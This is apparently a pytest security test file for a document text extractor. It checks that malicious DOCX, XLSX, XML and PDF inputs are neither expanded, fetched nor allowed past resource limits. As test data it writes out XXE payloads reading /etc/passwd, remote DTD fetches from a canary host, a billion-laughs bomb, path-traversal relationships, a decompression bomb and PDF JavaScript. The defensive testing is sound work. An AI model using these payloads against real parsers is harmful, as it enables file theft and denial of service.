"""Malicious XML and PDF files: they reach nothing outside their parser and stay in limits (UP 5, 7)."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from tertulia.library import mime
from tertulia.library.extract.extractor import Extractor
from tests.library.documents import S, W, docx, paragraph, pdf, pdf_of, xlsx
from tests.library.reading import deflated, output, read

pytestmark = pytest.mark.asyncio(loop_scope="module")


# ── XML

LAUGHS = "<!DOCTYPE l [<!ENTITY a 'ha'>" + "".join(
    f"<!ENTITY {chr(98 + n)} '{('&' + chr(97 + n) + ';') * 10}'>" for n in range(9)
) + "]>"  # fmt: skip
LOCAL = "<!DOCTYPE l [<!ENTITY j SYSTEM 'file:///etc/passwd'>]>"
REMOTE = "<!DOCTYPE l SYSTEM 'http://canary.invalid/evil.dtd'>"
PARAMETER = "<!DOCTYPE l [<!ENTITY % p SYSTEM 'http://canary.invalid/p'> %p;]>"


@pytest.mark.parametrize("declared", [LAUGHS, LOCAL, REMOTE, PARAMETER])
@pytest.mark.parametrize("entity", ["&j;", ""])
async def test_xml_entities_are_neither_expanded_nor_fetched(
    extractor: Extractor, declared: str, entity: str
) -> None:
    word = f"{declared}<w:document {W}><w:body>{paragraph(entity)}</w:body></w:document>"
    book = f"{declared}<sst {S}><si><t>{entity}</t></si></sst>"
    for content, kind in (
        (docx("", **{"word/document.xml": word}), mime.DOCX),
        (xlsx("", **{"xl/sharedStrings.xml": book}), mime.XLSX),
    ):
        extracted = await read(extractor, content, kind)
        assert (extracted.text, extracted.has_failed) == ("", True)
        assert "root:" not in repr(extracted)


@pytest.mark.parametrize("kind", ["application/xml", "image/svg+xml", "text/html"])
async def test_a_plain_xml_file_includes_no_other_files(extractor: Extractor, kind: str) -> None:
    content = (
        LOCAL + "<?xml-stylesheet href='http://canary.invalid/x.xsl'?>"
        "<x xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file:///etc/passwd'/>&j;</x>"
    )
    extracted = await read(extractor, content.encode(), kind)
    assert "root:" not in extracted.text


async def test_an_external_or_escaping_relation_is_not_followed(extractor: Extractor) -> None:
    relation = (
        '<Relationships xmlns="x"><Relationship Id="rId1" Target="file:///etc/passwd" TargetMode="External"/>'
        '<Relationship Id="rId2" Target="../../../../etc/passwd"/></Relationships>'
    )
    content = xlsx("", **{"xl/_rels/workbook.xml.rels": relation})
    assert "root:" not in repr(await read(extractor, content, mime.XLSX))


async def test_parsers_open_no_files_sockets_or_processes() -> None:
    """Python's audit hook reports every file, socket and process that a parser opens."""
    events = await output("-m", "tests.library.audited")
    assert events.strip() == "[]"


async def test_xml_that_is_nested_too_deeply_fails_with_a_reason(extractor: Extractor) -> None:
    extracted = await read(extractor, docx("<w:p>" * 10_000 + "</w:p>" * 10_000), mime.DOCX)
    assert (extracted.has_failed, extracted.reason) == (True, "Its XML is nested too deeply.")


# ── PDF


def loop() -> bytes:
    return pdf_of([b""], kids="2 0 R 2 0 R")


def stream_bomb() -> bytes:
    packed = deflated(b"", bytes(1 << 20), 500, b"")
    wrapped = b"\x78\xda" + packed + b"\0\0\0\0"
    content = pdf_of([b"MARK"])
    return content.replace(
        b"<< /Length 4 >>", b"<< /Filter /FlateDecode /Length %d >>" % len(wrapped)
    ).replace(b"MARK", wrapped)


@pytest.mark.parametrize(
    "make",
    [
        loop,
        stream_bomb,
        lambda: pdf_of([b"q " * 2_000_000], compress=True),
        lambda: pdf(["x"], "/Outlines 1 0 R"),
    ],
    ids=["a page tree that holds itself", "half a gigabyte in a stream", "two million operators", "outlines"],
)
async def test_a_malicious_pdf_is_finished_within_the_limits(
    extractor: Extractor, make: Callable[[], bytes]
) -> None:
    extracted = await read(extractor, make(), mime.PDF)
    assert extracted.reason or extracted.text


async def test_a_pdf_is_read_up_to_the_page_limit(extractor: Extractor) -> None:
    extracted = await read(extractor, pdf([f"p{n}" for n in range(100)]), mime.PDF)
    assert extracted.reason == "Only its first 50 pages can be searched."
    assert extracted.text.endswith("[Page 50]\np49\n\n")


async def test_a_script_in_a_pdf_is_ignored(extractor: Extractor) -> None:
    action = "/OpenAction << /S /JavaScript /JS (app.launchURL('http://canary.invalid')) >>"
    assert (await read(extractor, pdf(["Hello"], action), mime.PDF)).text == "[Page 1]\nHello\n\n"
